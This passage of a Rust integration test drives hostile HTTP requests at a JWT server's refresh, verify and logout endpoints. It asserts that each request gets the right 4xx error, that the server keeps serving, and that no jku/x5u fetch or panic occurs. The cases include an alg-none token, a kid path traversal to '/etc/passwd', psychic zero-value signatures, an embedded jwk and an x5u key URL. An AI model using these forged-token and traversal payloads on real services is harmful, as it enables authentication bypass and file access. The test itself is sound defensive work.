            let body = json!({ "refresh": c.valid.refresh }).to_string();
            c.post(REFRESH, "application/json", utf16(&body, true, true))
        }),
        case("refresh: duplicate refresh field", BadRequest, |c| {
            let body = format!(
                r#"{{"refresh":"{}","refresh":"{}"}}"#,
                c.none_token(),
                c.valid.refresh
            );
            c.post(REFRESH, "application/json", body)
        }),
        case("refresh: token in the query string", BadRequest, |c| {
            c.post(
                &format!("{REFRESH}?refresh={}", c.valid.refresh),
                "application/json",
                "",
            )
        }),
        case("refresh: text/plain body", BadRequest, |c| {
            let body = json!({ "refresh": c.valid.refresh }).to_string();
            c.post(REFRESH, "text/plain", body)
        }),
        // The verify endpoint.
        case("control: verify a valid token", ok, |c| {
            c.verify(&c.valid.access)
        }),
        case("verify: nested JWT", Invalid(E::Json), |c| {
            c.verify(&c.nested(false))
        }),
        case("verify: kid path traversal", Invalid(E::UnknownKey), |c| {
            c.verify(&c.es_access(json!({"kid": "../../../../etc/passwd"}), json!({})))
        }),
        case("verify: psychic r = s = 0", Invalid(E::Signature), |c| {
            c.verify(&c.psychic(Access, &[0; 64]))
        }),
        case(
            "verify: x5u at a local listener",
            Invalid(E::ExternalKey),
            |c| c.verify(&c.external(Access, "x5u")),
        ),
        case("verify: 17 KiB body", TooLarge, |c| {
            c.post(VERIFY, "application/json", vec![b' '; 17 * 1024])
        }),
        // The logout endpoint.
        case("logout with an access token", Invalid(E::WrongType), |c| {
            c.logout(&c.valid.access)
        }),
        case("logout: alg none", Invalid(E::Malformed), |c| {
            let h = c.header(Refresh, json!({"alg": "none"}));
            c.logout(&format!("{}.", input(&h, &c.claims(Refresh, json!({})))))
        }),
        case("logout: embedded jwk", Invalid(E::ExternalKey), |c| {
            c.logout(&c.external(Refresh, "jwk"))
        }),
        case("control: logout", ok, |c| c.logout(&c.leaving.refresh)),
        case(
            "access token of a logged-out session",
            Invalid(E::Revoked),
            |c| c.bearer(&c.leaving.access),
        ),
        case(
            "refresh token of a logged-out session",
            Invalid(E::Revoked),
            |c| c.refresh(&c.leaving.refresh),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_requests_over_http_get_the_right_4xx_and_the_server_keeps_serving() {
    let default_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        PANICS.fetch_add(1, Ordering::SeqCst);
        default_hook(info);
    }));

    // The configuration under attack.
    let es = Key::from_private_pem("es", Algorithm::ES256, ES256_PEM).unwrap();
    let jwt = Jwt::builder()
        .signing_key(es.clone())
        .verification_key(Key::from_public_pem("rs", Algorithm::RS256, RS256_PUB).unwrap())
        .issuer(ISS)
        .audience(AUD)
        .leeway(Duration::from_secs(LEEWAY))
        .build()
        .unwrap();
    let store = Arc::new(MemoryStore::new());
    let users = Arc::new(Users::new());
    let user = Uuid::new_v4();
    users.insert(user, "alice".into());
    // Strict single use: a replay right after a rotation is reuse here (with the
    // default reuse window it would get the same successor again; that
    // behaviour has its own tests in the conformance suite and server_e2e).
    let sessions: Sessions<Users> = Sessions::new(jwt.clone(), store.clone(), users)
        .with_reuse_grace(Duration::ZERO)
        .unwrap();

    async fn protected(Authenticated(claims): Authenticated) -> String {
        claims.user_id().to_owned()
    }
    let app = Router::new()
        .route(PROTECTED, get(protected))
        .layer(JwtAuthLayer::new(jwt).revocation_check(store.clone() as Arc<dyn TokenStore>))
        .route_service(REFRESH, SessionEndpoint::refresh(sessions.clone()))
        .route_service(VERIFY, SessionEndpoint::verify(sessions.clone()))
        .route_service(LOGOUT, SessionEndpoint::logout(sessions.clone()));

    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let svc = TowerToHyperService::new(app.clone());
            tokio::spawn(async move {
                // A connection hyper refuses (431, 400) ends in an error: expected.
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });

    // The jku / x5u target: counts every connection it gets.
    let trap = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let trap_addr = trap.local_addr().unwrap();
    let trap_hits = Arc::new(AtomicUsize::new(0));
    let hits = trap_hits.clone();
    tokio::spawn(async move {
        while let Ok((_stream, _)) = trap.accept().await {
            hits.fetch_add(1, Ordering::SeqCst);
        }
    });

    let login = || sessions.login(&user, &NoCustomClaims, None);
    let valid = login().await.unwrap();
    let ctx = Ctx {
        addr,
        trap: trap_addr,
        user,
        sid: valid.session_id,
        valid: valid.clone(),
        spare: login().await.unwrap(),
        leaving: login().await.unwrap(),
        es,
        attacker: Key::from_private_pem("es", Algorithm::ES256, ATTACKER_PEM).unwrap(),
        rsa: EncodingKey::from_rsa_pem(RS256_PEM).unwrap(),
    };
    let client = Client::builder(TokioExecutor::new()).build_http::<ReqBody>();

    let cases = cases();
    let mut rows = Vec::new();
    let mut failures = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let got = send(&client, addr, (c.make)(&ctx)).await;
        if let Some(why) = mismatch(c.want, &got) {
            failures.push(format!(
                "#{} {}: want {}, got {why}",
                i + 1,
                c.name,
                c.want.label()
            ));
        }
        // The server keeps serving: a valid token still gets in.
        let control = send(&client, addr, ctx.bearer(&ctx.valid.access)).await;
        if control.status != StatusCode::OK || control.body != user.to_string() {
            failures.push(format!(
                "#{} {}: the control request after it got {}",
                i + 1,
                c.name,
                control.status
            ));
        }
        let reason = serde_json::from_slice::<Value>(&got.body)
            .ok()
            .and_then(|j| j["error_description"].as_str().map(str::to_owned))
            .unwrap_or_default();
        rows.push((c.name, got.status, reason));
    }
    // Give any (forbidden) background fetch of a jku / x5u time to show up.
    tokio::time::sleep(Duration::from_millis(300)).await;

    let hostile = cases.iter().filter(|c| !matches!(c.want, Want::Ok)).count();
    println!();
    println!("| # | case | status | reason |");
    println!("| --- | --- | --- | --- |");
    for (i, (name, status, reason)) in rows.iter().enumerate() {
        println!("| {} | {name} | {} | {reason} |", i + 1, status.as_u16());
    }
    println!(
        "{} cases: {hostile} hostile, {} controls; jku/x5u listener connections: {}; panics: {}",
        cases.len(),
        cases.len() - hostile,
        trap_hits.load(Ordering::SeqCst),
        PANICS.load(Ordering::SeqCst),
    );

    assert!(hostile >= 40, "only {hostile} hostile cases");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(
        trap_hits.load(Ordering::SeqCst),
        0,
        "something connected to the jku / x5u target"
    );
    assert_eq!(PANICS.load(Ordering::SeqCst), 0, "a panic happened");
}
